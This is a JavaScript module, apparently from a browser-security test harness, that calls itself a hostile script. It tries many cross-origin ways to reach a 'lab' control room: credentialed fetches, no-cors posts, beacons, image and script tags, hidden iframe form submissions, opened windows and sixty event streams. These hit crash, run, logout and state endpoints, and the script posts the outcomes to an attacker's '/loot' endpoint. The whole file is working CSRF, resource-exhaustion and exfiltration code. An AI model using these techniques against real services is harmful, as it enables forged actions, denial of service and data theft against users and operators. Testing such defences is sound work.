// A hostile script. It tries every way in which a page can send a request to the control room at `lab` or reach another
// page, from the origin that it runs at, and sends the outcomes to the attacker's server.

const crash = '/lab/instances/api-2/crash';
const run = '{"experiments":["steady"],"modes":["session-memory"]}';
const json = { 'content-type': 'application/json' };

const post = (url, init = {}) => fetch(url, { method: 'POST', credentials: 'include', ...init });
const add = (name, properties) =>
  document.documentElement.appendChild(Object.assign(document.createElement(name), properties));

/** Each gives what it got, or throws. */
const ways = {
  'a request to its own origin': async () => (await post(crash)).status,
  'a run at its own origin': async () => (await post('/lab/runs', { headers: json, body: run })).status,
  'a request': async (lab) => (await post(lab + crash, { mode: 'no-cors' })).type,
  'a request with a preflight': async (lab) => (await post(lab + crash)).status,
  'a request with JSON': async (lab) => (await post(`${lab}/lab/runs`, { headers: json, body: run })).status,
  'JSON as text': async (lab) => (await post(`${lab}/lab/runs`, { mode: 'no-cors', body: run })).type,
  'another method': async (lab) =>
    (await fetch(`${lab}/lab/instances`, { method: 'PUT', body: '{"count":1}' })).status,
  'what the control room holds': async (lab) => (await fetch(`${lab}/lab/state`)).text(),
  'a log-out at the API': async (lab) =>
    (await post(`${lab}/api/session-redis/logout`, { mode: 'no-cors' })).type,
  'a beacon': (lab) => navigator.sendBeacon(lab + crash),
  'an image': (lab) => void add('img', { src: lab + crash }),
  'a script': (lab) => void add('script', { src: lab + crash }),
  'a form in a frame': (lab) => {
    add('iframe', { name: 'hidden' });
    add('form', { method: 'post', action: lab + crash, target: 'hidden', enctype: 'text/plain' }).submit();
  },
  'a form in a window': (lab) =>
    add('form', { method: 'post', action: lab + crash, target: '_blank' }).submit(),
  'the page in a frame': async (lab) => {
    const frame = add('iframe', { src: `${lab}/` });
    await new Promise((loaded) => setTimeout(loaded, 500));
    return frame.contentWindow.fetch(lab + crash, { method: 'POST' });
  },
  'the page in a window': async (lab) => {
    const page = open(`${lab}/`);
    await new Promise((loaded) => setTimeout(loaded, 500));
    return page.fetch(lab + crash, { method: 'POST' });
  },
  'the streams': (lab) => Array.from({ length: 60 }, () => new EventSource(`${lab}/lab/events`)).length,
};

/** Of another page the browser may block a request in silence. */
const silent = ['the page in a frame', 'the page in a window'];

/** @param {string} when */
export async function attack(lab, when) {
  const begun = Object.entries(ways).map(([name, way]) => [name, (async () => way(lab))()]);
  const others = begun.filter(([name]) => !silent.includes(name)).map(([, answer]) => answer);
  // The silence counts from the answers to the others on: a busy machine delays them all.
  const noAnswer = Promise.allSettled(others).then(
    () => new Promise((give) => setTimeout(give, 3000, 'no answer')),
  );
  const outcomes = begun.map(async ([name, answer]) => {
    try {
      return [name, String(await (silent.includes(name) ? Promise.race([answer, noAnswer]) : answer))];
    } catch (error) {
      return [name, error.name];
    }
  });
  const body = JSON.stringify({ when, outcomes: Object.fromEntries(await Promise.all(outcomes)) });
  await fetch(new URL('/loot', import.meta.url), { method: 'POST', mode: 'no-cors', body });
}
